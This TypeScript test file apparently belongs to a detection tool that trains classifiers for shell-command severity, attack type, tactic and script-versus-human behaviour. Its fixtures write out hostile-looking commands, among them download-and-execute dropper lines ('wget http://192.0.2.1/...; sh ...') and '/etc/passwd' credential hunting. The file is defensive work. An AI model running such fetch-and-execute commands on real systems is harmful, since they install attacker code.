import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { loadRules } from '../attack/load-rules.ts';
import { attackTypeModelOf } from '../attack-type.ts';
import { severityModelOf } from '../severity-model.ts';
import { readTypeCorpus } from './attack-type-data.ts';
import { attackTypeNames } from './attack-type-names.ts';
import { foldOf } from './folds.ts';
import { labelAgreement } from './label-agreement.ts';
import { linesOfFile } from './lines-of-file.ts';
import { measureSeverity, trainingLines } from './measure-severity.ts';
import { splitSession } from './session-data.ts';
import { readOrdinaryLines, readRatedLines, ruleExampleLines } from './severity-data.ts';
import { actorSessions, measureActor } from './train-actor.ts';
import { growForestFile } from './train-anomaly.ts';
import { attackTypeFile, measureAttackType } from './train-attack-type.ts';
import { toModelFile, trainSeverity } from './train-severity.ts';
import { measureTactics, readTacticSessions, trainTactics } from './train-tactics.ts';

const rules = loadRules(new URL('../../../../policy/attack/', import.meta.url).pathname);
const folder = mkdtempSync(join(tmpdir(), 'cerberus-train-'));
afterAll(() => rmSync(folder, { recursive: true }));

const words = ['alpha', 'beta', 'gamma', 'delta', 'zeta', 'eta', 'theta', 'iota', 'kappa', 'lambda', 'mu', 'nu'];
const rated = words.flatMap((word) => [
  line(`ls -la /srv/${word}`, 'LOW', 'LOW', 'benign', 'benign'),
  line(`grep -r ${word} /etc/passwd`, 'MEDIUM', 'MEDIUM', 'account_discovery', 'credential_hunting'),
  line(`wget http://192.0.2.1/${word}; sh ${word}.sh`, 'HIGH', 'HIGH', 'payload_download', 'dropper'),
  line(`head ${word}/conf`, 'LOW', 'MEDIUM', 'benign', 'config_reading'),
]);
const corpus = writeCorpus();

describe('severity training', () => {
  const lines = trainingLines(corpus);

  it('learns the lines it was given and gives the same file twice', () => {
    const [first, second] = [0, 1].map(() => toModelFile(trainSeverity(lines), ['LOW', 'MEDIUM', 'HIGH'], 'v', 1));
    expect(first).toEqual(second);
    if (first === undefined) throw new Error('not trained');
    const model = severityModelOf(first);
    for (const line of corpus.rated.filter(({ agreed }) => agreed !== null))
      expect(model.judge(line.features).severity).toBe(line.agreed);
  });

  it('measures every line by a model that never saw its shape', () => {
    const figures = measureSeverity(corpus);
    expect(figures.ratedLines).toBe(36);
    // The twelve downloads differ in names only, which a shape leaves out.
    expect(figures.shapes).toBe(25);
    expect(figures.kappa).toBeLessThanOrEqual(1);
    expect(figures.kappaInterval[0]).toBeLessThanOrEqual(figures.kappaInterval[1]);
  });

  it('names the file and line of a label that cannot be read', () => {
    const broken = join(folder, 'broken');
    mkdirSync(join(broken, 'labelled'), { recursive: true });
    writeFileSync(
      join(broken, 'labelled/severity_dev.jsonl'),
      `${JSON.stringify({ ...rated[0], source: 's' })}\n{"command":"x"}\n`,
    );
    expect(() => readRatedLines(broken, rules)).toThrow(/severity_dev\.jsonl:2/);
    expect(() => readRatedLines(join(folder, 'absent'), rules)).toThrow(/Expected labelled lines/);
  });
});

describe('attack types', () => {
  const corpus = readTypeCorpus(folder, rules);

  it('are learned from the raters’ words, and from the examples of rules', () => {
    expect(corpus.rated).toHaveLength(rated.length);
    expect(corpus.rated[2]?.types.map((type) => attackTypeNames[type])).toEqual(['malware_download', 'dropper']);
    expect(corpus.examples.length).toBeGreaterThan(rules.rules.length / 2);
  });

  it('say nothing where they are unsure, and keep harm unnamed rather than deny it', () => {
    const model = attackTypeModelOf(attackTypeFile(corpus, 'v', 1));
    const [, , download] = corpus.rated;
    expect(['malware_download', 'dropper']).toContain(model.tell(download?.features ?? new Set(), 'HIGH').attackType);
    const unsure = attackTypeModelOf(attackTypeFile(corpus, 'v', 8));
    expect(unsure.tell(new Set(), 'LOW')).toMatchObject({ attackType: 'none' });
    expect(unsure.tell(new Set(), 'HIGH')).toMatchObject({ attackType: 'suspicious_command' });
    expect(unsure.tell(new Set(), 'HIGH').attackTypeConfidence).toBeLessThan(0.4);
  });

  it('are measured by models that never saw the line’s shape', () => {
    const figures = measureAttackType(corpus);
    expect(figures.shapes).toBe(37);
    expect(figures.accuracy).toBeGreaterThan(0.5);
    expect(figures.inFirstThree).toBeGreaterThanOrEqual(figures.accuracy);
  });
});

describe('what is too little to learn from is refused', () => {
  it('of tactics, a single one', () => {
    const sessions = readTacticSessions([{ id: 'a', statements: ['id'], labels: ['Discovery'] }], rules);
    expect(() => trainTactics(sessions, 'v')).toThrow(/at least two tactics/);
  });

  it('of scripts and people, scripts alone', () => {
    expect(() => measureActor(actorSessions([], [{ commands: ['id'] }, { commands: ['ls'] }]))).toThrow(
      /one kind only/,
    );
  });

  it('of rows for a forest, a handful', () => {
    expect(() => growForestFile([Float32Array.of(1)], ['x'], 'v')).toThrow(/at least 500 rows/);
  });
});

describe('tactic training', () => {
  it('cross-validates sessions and counts every statement once', () => {
    const sessions = readTacticSessions(
      words.flatMap((word) => [
        { id: `${word}1`, statements: ['uname -a ;', `cat /proc/${word} ;`], labels: ['Discovery', 'Discovery'] },
        {
          id: `${word}2`,
          statements: ['cd /tmp ;', `wget http://192.0.2.1/${word} ;`, `sh ${word} ;`],
          labels: ['Execution', 'Execution', 'Execution'],
        },
      ]),
      rules,
    );
    const figures = measureTactics(sessions);
    expect(figures.statements).toBe(60);
    expect(figures.confusion.flat().reduce((a, b) => a + b, 0)).toBe(60);
  });
});

it('labels agree where the same statement between the same neighbours bears the same label in another script', () => {
  const session = (id: string, last: string, label: string) => ({
    id,
    statements: ['uname -a ;', 'cd /tmp ;', last],
    labels: ['Discovery', label, 'Execution'],
  });
  const sessions = readTacticSessions(
    [session('a', 'ls ;', 'Execution'), session('b', 'id ;', 'Execution'), session('c', 'w ;', 'Discovery')],
    rules,
  );
  const agreement = labelAgreement(sessions, 0);
  expect(agreement.classes).toEqual({ Discovery: [4, 4, 3], Execution: [5, 2, 2] });
  expect(agreement.agreeing).toBeCloseTo(5 / 6);
  expect(labelAgreement(sessions, 1).repeated).toBe(3);
});

it('people and scripts that type otherwise are told apart, and a person is measured as one group', () => {
  const people = words.map((word) => ({
    commands: ['ls', 'cd ..', `cat ${word}`, `cat ${word}s`, 'man ls', 'clear', 'ls', 'pwd', `nano ${word}`, 'exit'],
  }));
  const scripts = words.map((word) => ({
    commands: [`cd /tmp; wget http://192.0.2.1/${word}; sh ${word} > /dev/null 2>&1`],
  }));
  expect(measureActor(actorSessions(people, scripts)).auc).toBeGreaterThan(0.95);
});

it('sessions are split as their labellers split them: after each separator, which stays', () => {
  expect(splitSession('cat a | grep b || id; cd /tmp && ls ; w')).toEqual([
    'cat a |',
    'grep b ||',
    'id;',
    'cd /tmp &&',
    'ls ;',
    'w',
  ]);
});

it('a fold depends on the group alone', () => {
  expect(foldOf('a ; b', 5)).toBe(foldOf('a ; b', 5));
  expect(new Set(words.map((word) => foldOf(word, 5))).size).toBeGreaterThan(2);
});

it('lines over the edge of a read are whole, and the last needs no terminator', () => {
  const path = join(folder, 'long.txt');
  const lines = Array.from({ length: 5 }, (_, at) => `${at}${'ä'.repeat(400_000)}`);
  writeFileSync(path, lines.join('\n'));
  expect([...linesOfFile(path)]).toEqual(lines);
  expect(readFileSync(path, 'utf8').split('\n')).toEqual(lines);
});

function line(command: string, rater1: string, rater2: string, type: string, type2: string) {
  return { command, severity: rater1 === rater2 ? rater1 : null, rater1, rater2, type, type2 };
}

function writeCorpus() {
  mkdirSync(join(folder, 'labelled'), { recursive: true });
  mkdirSync(join(folder, 'benign'), { recursive: true });
  const jsonLines = (items: readonly object[]) => `${items.map((item) => JSON.stringify(item)).join('\n')}\n`;
  writeFileSync(
    join(folder, 'labelled/severity_dev.jsonl'),
    jsonLines(rated.map((line) => ({ ...line, source: 'test' }))),
  );
  writeFileSync(
    join(folder, 'benign/nl2bash_dev.jsonl'),
    jsonLines(words.map((word) => ({ command: `find . -name "${word}*"` }))),
  );
  return {
    rated: readRatedLines(folder, rules),
    ordinary: readOrdinaryLines(folder, rules),
    examples: ruleExampleLines(rules),
  };
}
